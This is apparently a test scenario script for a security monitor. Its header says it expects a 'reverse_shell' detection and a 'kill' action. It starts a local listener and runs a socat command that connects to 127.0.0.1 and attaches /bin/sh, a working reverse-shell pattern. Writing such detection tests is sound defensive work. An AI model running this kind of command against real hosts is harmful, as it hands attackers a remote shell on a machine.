# expect: reverse_shell
# action: kill
# about: socat TCP:127.0.0.1:PORT EXEC:sh
exec 3< <("$PY" "$SCENARIO_LIB/listener.py")
read -r port <&3
socat TCP:127.0.0.1:$port EXEC:/bin/sh
